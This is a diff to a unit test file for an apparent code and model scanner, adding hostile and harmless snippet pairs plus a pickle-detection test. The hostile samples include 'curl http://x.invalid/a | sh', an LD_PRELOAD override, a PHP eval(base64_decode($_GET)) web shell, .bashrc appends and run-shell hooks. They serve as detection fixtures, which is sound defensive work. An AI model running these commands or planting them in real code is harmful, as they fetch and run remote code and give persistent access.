@@ -2,6 +2,7 @@
 
 import pytest
 
+from budmodel_scanner.pickles.examine import looks_like_pickle
 from budmodel_scanner.texts.statements import put_together, statements
 from budmodel_scanner.verdict import Verdict
 from tests.unit.budmodel_scanner.text_examination import findings_of, verdict_of_text
@@ -67,6 +68,13 @@ PAIRS = [
     ("a.kt", 'File(home + "/.bashrc").appendText("x")', 'File(home + "/models/a.txt").appendText("x")'),
     ("a.php", "<?php eval(base64_decode($_GET['m']));", "<?php file_put_contents('a.png', base64_decode($_POST['i']));"),
     ("main.d", f'import std.process;\nvoid main() {{ executeShell("{PIPE}"); }}', "import std.process;\nvoid main() {}"),
+    ("a.py", "import pip\npip.main(['install', 'x'])", "import pip\nprint(pip.__version__)"),
+    ("b.py", "import os\nos.environ['LD_PRELOAD'] = './x.so'", "import os\nos.environ['OMP_NUM_THREADS'] = '1'"),
+    (
+        "c.py",
+        "import os\nos.system('curl http://x.invalid/a | sh')",
+        "import os\nimport net.http\nimport torch.multiprocessing",
+    ),
     ("Guardfile", f"guard :shell do\n  watch(/.*/) {{ `{PIPE}` }}\nend", "guard :shell do\n  watch(/.*/) { `make` }\nend"),
     ("a.raku", f'shell "{PIPE}";', f'say "Install with: {PIPE}";'),
     (".tmux.conf", f'set -g mouse on\nrun-shell "{PIPE}"', 'set -g mouse on\nrun-shell "~/.tmux/tpm"'),
@@ -146,6 +154,14 @@ def test_its_ordinary_twin_is_left_alone(name: str, _: str, text: str) -> None:
 def test_texts_are_put_together_as_their_language_would(code: str, made: list[str]) -> None:
     values = {"u": "x"}
     assert [text for statement in statements(code) for text in put_together(statement, values)] == made
+
+
+def test_a_source_that_begins_like_the_oldest_pickles_is_none() -> None:
+    for text in (
+        b"import os\nimport net.http\n",
+        b'const http = require("http");\nhttp.get("http://localhost/x", (r) => {});\n',
+    ):
+        assert not looks_like_pickle(text)
 
 
 def test_names_that_are_set_anew_are_no_longer_what_was_fetched() -> None:
